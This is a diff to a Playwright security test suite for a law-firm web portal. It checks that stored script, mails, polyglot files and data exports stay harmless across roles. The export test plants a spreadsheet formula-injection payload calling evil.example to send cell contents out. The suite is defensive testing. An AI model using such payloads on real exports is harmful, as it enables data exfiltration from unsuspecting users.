@@ -4,77 +4,77 @@ import { dirname, join, normalize } from 'node:path'
 import { pathToFileURL } from 'node:url'
 import { type Browser, expect, type Page, test } from '@playwright/test'
 import { exportedLists } from '../features/exports/exports.schema.ts'
-import { firm } from '../firm.config.ts'
+import { demoFirm } from '../firm.config.ts'
 import { figure, isLong } from '../test/assurance/figure.ts'
 import { polyglots, wouldRun } from '../test/assurance/polyglots.ts'
 import { cellsOf, isFormula } from '../test/spreadsheet.ts'
 import { unzipped } from '../test/zip.ts'
-import { openInEveryWay, openPreviews } from './hostile-files.ts'
-import { hostileMails } from './hostile-mails.ts'
-import { enterEverywhere } from './hostile-seed.ts'
-import { walk } from './hostile-walk.ts'
 import {
-  type HostileWorld,
-  hostileWorld,
+  type HostileRun,
+  hostileRun,
   type Person,
   password,
   read,
   script,
   upload,
   write,
-} from './hostile-world.ts'
+} from './fixtures/hostile.ts'
+import { openInEveryWay, openPreviews } from './hostile-files.ts'
+import { hostileMails } from './hostile-mails.ts'
+import { enterEverywhere } from './hostile-seed.ts'
+import { walk } from './hostile-walk.ts'
 
-// Script in every text that anybody can enter, and then every screen of everybody, every mail, every file and what can be
-// taken along: it is shown as the words that it is, and nothing of it runs or is even tried. What is printed, and every
-// kind of file for everybody, is looked at by `npm run assurance` alone.
+// Enters script into every text field, then opens every screen of every role, every mail, every file and every export.
+// The script must be shown as text, and nothing may run or violate the CSP. Prints, and every
+// kind of file for every role, are checked by `npm run assurance` only.
 
-let world: HostileWorld
+let run: HostileRun
 
 test.beforeAll(async () => {
-  world = await hostileWorld()
+  run = await hostileRun()
 })
 test.afterAll(async () => {
-  await world?.stop()
+  await run?.stop()
 })
 
-test('what people write is shown as words, to everybody, on every screen', async ({ browser }) => {
-  // Each screen is printed as well, which takes its time.
+test('entered text is shown as text to every role on every screen', async ({ browser }) => {
+  // Each screen is printed as well, which takes time.
   if (isLong) test.setTimeout(1_200_000)
   const pages = await everybody(browser)
   await enterEverywhere(handsOf(pages), script, 'script')
   const [card] = (await read(pages.client.request, '/client/cases')).items
   await Promise.all([
-    walk(world, pages.visitor, 'visitor', '/', ['/auth', '/case-search', '/team']),
-    walk(world, pages.client, 'client', '/dashboard', [`/case/${card.shareLink}`, '/cases']),
-    walk(world, pages.lawyer, 'lawyer', '/lawyer-portal'),
-    walk(world, pages.admin, 'admin', '/admin'),
+    walk(run, pages.anonymous, 'anonymous', '/', ['/auth', '/case-search', '/team']),
+    walk(run, pages.client, 'client', '/dashboard', [`/case/${card.shareLink}`, '/cases']),
+    walk(run, pages.lawyer, 'lawyer', '/lawyer-portal'),
+    walk(run, pages.admin, 'admin', '/admin'),
   ])
   figure(
     'stored script',
-    `${world.screens.opened} views, ${world.screens.showing} showing it as words${isLong ? ', each printed as well' : ''}; ${world.wrong.length} ran or were refused`,
+    `${run.screens.opened} views, ${run.screens.showing} showing it as words${isLong ? ', each printed as well' : ''}; ${run.wrong.length} ran or were refused`,
     '0; 0',
   )
-  expect(world.wrong).toEqual([])
-  // Otherwise nothing was looked at.
-  expect(world.screens.showing).toBeGreaterThan(20)
+  expect(run.wrong).toEqual([])
+  // Otherwise nothing was checked.
+  expect(run.screens.showing).toBeGreaterThan(20)
 })
 
-test('no mail runs or loads anything, even where no policy holds it', async ({ browser }) => {
-  const page = await world.watched(browser)
+test('no mail runs or loads anything, even without a CSP', async ({ browser }) => {
+  const page = await run.watched(browser)
   await page.setContent(wouldRun)
-  await expect.poll(() => world.wrong.length).toBeGreaterThan(0)
-  world.wrong.length = 0
+  await expect.poll(() => run.wrong.length).toBeGreaterThan(0)
+  run.wrong.length = 0
 
   const loaded: string[] = []
   page.on('request', (request) => loaded.push(request.url()))
   const mails = hostileMails()
   for (const [name, { html, subject }] of mails) {
     await page.setContent(html)
-    await world.harmless(page, `mail ${name}`)
+    await run.harmless(page, `mail ${name}`)
     expect(await page.title()).toBe(subject.replace(/\s+/g, ' '))
   }
   expect(loaded).toEqual([])
-  // Those that the firm really writes, as its mailbox shows them.
+  // Mails that were sent, as the demo mailbox shows them.
   const email = (name: string) => `${name}-mailed@demo.example`
   await write(page.request, '/sign-up', { name: script, email: email('sign-up'), password })
   const message = { name: script, email: email('contact'), message: `In a mail: ${script}`, openedAt: 1 }
@@ -82,30 +82,30 @@ test('no mail runs or loads anything, even where no policy holds it', async ({ b
   const inMailbox = page.locator('li a')
   await expect(async () => {
     await page.goto('/dev/mailbox')
-    for (const to of [email('sign-up'), email('contact'), firm.emails.contact])
+    for (const to of [email('sign-up'), email('contact'), demoFirm.emails.contact])
       await expect(page.locator('li').filter({ hasText: to }).first()).toBeVisible({ timeout: 500 })
   }).toPass()
   const written = await inMailbox.evaluateAll((all) => all.map((a) => a.getAttribute('href') ?? ''))
   for (const address of written)
     for (const form of ['', '/html']) {
       expect((await page.goto(address + form))?.status()).toBe(200)
-      await world.harmless(page, `${address}${form}`)
+      await run.harmless(page, `${address}${form}`)
     }
   figure(
     'mails',
-    `${mails.length} kinds and ${written.length} written ones; ${world.wrong.length} ran or loaded`,
+    `${mails.length} kinds and ${written.length} written ones; ${run.wrong.length} ran or loaded`,
     '0; 0',
   )
-  expect(world.wrong).toEqual([])
+  expect(run.wrong).toEqual([])
 })
 
-test('a file that is something else as well is nothing but what its ending says', async ({ browser }) => {
-  // The test has the browser take it for a script, a style and a worker, which the browser refuses.
+test('a polyglot file is served only as the type of its ending', async ({ browser }) => {
+  // The test loads it as a script, a style and a worker, which the browser refuses.
   const expected = /MIME type|Refused to apply style/i
   const roles = ['client', 'lawyer', 'admin'] as const
   const readers = isLong ? roles : (['client'] as const)
-  const lawyer = await world.watched(browser, 'lawyer')
-  const client = await world.watched(browser, 'client')
+  const lawyer = await run.watched(browser, 'lawyer')
+  const client = await run.watched(browser, 'client')
   const { clientId } = await read(client.request, '/session')
   const { id: caseId } = await write(lawyer.request, '/lawyer/cases', {
     title: 'Twofold',
@@ -127,27 +127,25 @@ test('a file that is something else as well is nothing but what its ending says'
   }
   let opened = 0
   for (const who of readers) {
-    const page = await world.watched(browser, who, expected)
+    const page = await run.watched(browser, who, expected)
     for (const id of ids) {
       expect((await page.request.get(`/api/files/${id}`)).status(), who).toBe(200)
-      await openInEveryWay(world, page, who, id)
+      await openInEveryWay(run, page, who, id)
       opened += 1
     }
-    await openPreviews(world, page, who)
+    await openPreviews(run, page, who)
   }
-  const visitor = await world.watched(browser)
-  for (const id of ids) expect((await visitor.request.get(`/api/files/${id}?inline=1`)).status()).toBe(404)
+  const anonymous = await run.watched(browser)
+  for (const id of ids) expect((await anonymous.request.get(`/api/files/${id}?inline=1`)).status()).toBe(404)
   figure(
     'files that are two things',
-    `${ids.length} files, ${opened} opened as page, frame, script, module, style and worker; ${world.wrong.length} ran`,
+    `${ids.length} files, ${opened} opened as page, frame, script, module, style and worker; ${run.wrong.length} ran`,
     '0; 0',
   )
-  expect(world.wrong).toEqual([])
+  expect(run.wrong).toEqual([])
 })
 
-test('what can be taken along holds no formula, no path out of its folder, and nothing that runs', async ({
-  browser,
-}) => {
+test('exports have no formulas, no paths out of their folder, and nothing that runs', async ({ browser }) => {
   const pages = await everybody(browser)
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"x");+1+1'
   await enterEverywhere(handsOf(pages), formula, 'formula')
@@ -159,14 +157,14 @@ test('what can be taken along holds no formula, no path out of its folder, and n
     for (const separator of [',', ';', '\t'])
       for (const cell of cellsOf(csv, separator)) {
         cells += 1
-        if (isFormula(cell)) world.wrong.push(`${list} by ${separator}: ${cell}`)
+        if (isFormula(cell)) run.wrong.push(`${list} by ${separator}: ${cell}`)
       }
     if (list === 'leads') expect(csv).toContain("'=HYPERLINK")
   }
-  const answer = await pages.client.request.post('/api/own-data')
+  const answer = await pages.client.request.post('/api/data-export')
   expect(answer.status()).toBe(200)
   const entries = [...unzipped(await answer.body())]
-  const folder = mkdtempSync(join(tmpdir(), 'portico-own-data-'))
+  const folder = mkdtempSync(join(tmpdir(), 'portico-data-export-'))
   try {
     for (const [path, bytes] of entries) {
       expect(normalize(path)).toBe(path)
@@ -174,35 +172,35 @@ test('what can be taken along holds no formula, no path out of its folder, and n
       expect(join(folder, path).startsWith(`${folder}/`)).toBe(true)
       mkdirSync(dirname(join(folder, path)), { recursive: true })
       writeFileSync(join(folder, path), bytes)
-      await pages.visitor.goto(pathToFileURL(join(folder, path)).href).catch(() => {})
-      await world.harmless(pages.visitor, path)
+      await pages.anonymous.goto(pathToFileURL(join(folder, path)).href).catch(() => {})
+      await run.harmless(pages.anonymous, path)
     }
   } finally {
     rmSync(folder, { recursive: true, force: true })
   }
   figure(
     'what can be taken along',
-    `${exportedLists.length} tables with ${cells} cells by three separators, ${entries.length} files of own data; ${world.wrong.length} formulas or ran`,
+    `${exportedLists.length} tables with ${cells} cells by three separators, ${entries.length} files of own data; ${run.wrong.length} formulas or ran`,
     '0; 0',
   )
   expect(entries.length).toBeGreaterThan(5)
-  expect(world.wrong).toEqual([])
+  expect(run.wrong).toEqual([])
 })
 
-type Everybody = Record<Person | 'visitor', Page>
+type Everybody = Record<Person | 'anonymous', Page>
 
 async function everybody(browser: Browser): Promise<Everybody> {
   return {
-    admin: await world.watched(browser, 'admin'),
-    lawyer: await world.watched(browser, 'lawyer'),
-    client: await world.watched(browser, 'client'),
-    visitor: await world.watched(browser),
+    admin: await run.watched(browser, 'admin'),
+    lawyer: await run.watched(browser, 'lawyer'),
+    client: await run.watched(browser, 'client'),
+    anonymous: await run.watched(browser),
   }
 }
 
-const handsOf = ({ admin, lawyer, client, visitor }: Everybody) => ({
+const handsOf = ({ admin, lawyer, client, anonymous }: Everybody) => ({
   admin: admin.request,
   lawyer: lawyer.request,
   client: client.request,
-  visitor: visitor.request,
+  anonymous: anonymous.request,
 })
